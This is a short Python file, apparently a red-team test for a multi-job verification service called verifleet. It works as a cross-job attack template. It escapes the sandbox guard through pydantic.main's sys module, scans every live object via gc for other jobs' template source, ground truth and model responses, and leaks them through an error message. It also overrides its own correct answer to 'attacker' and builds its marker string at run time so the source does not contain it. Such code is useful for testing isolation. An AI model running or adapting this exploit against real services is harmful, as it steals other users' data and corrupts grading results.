# cross-job attack: escape the guard (pydantic.main's sys) and search the whole
# process for another job's template source, ground truth and model responses;
# whatever is found is reported in this job's own results (verify's error).
from pydantic import main
from verifleet.templates import BaseAnswer

# Built at run time, so this source itself does not hold the marker.
_MARK = "".join(["VICTIM", "-"])


def _strings(value, found, depth=0):
    if depth > 3:
        return
    if isinstance(value, str):
        if _MARK in value and value != _MARK:
            found.add(value[:120])
    elif isinstance(value, dict):
        for item in list(value.values()):
            _strings(item, found, depth + 1)
    elif isinstance(value, (list, tuple, set, frozenset)):
        for item in list(value):
            _strings(item, found, depth + 1)


class Answer(BaseAnswer):
    value: str

    def model_post_init(self, context):
        self.correct = {"value": "attacker"}

    def verify(self) -> bool:
        gc = main.sys.modules["importlib"].import_module("gc")
        found = set()
        for obj in gc.get_objects():
            _strings(obj, found)
            if isinstance(obj, (bytes, bytearray)) and _MARK.encode() in obj:
                found.add(repr(obj[:120]))
        raise ValueError("LEAK[" + " | ".join(sorted(found)) + "]")
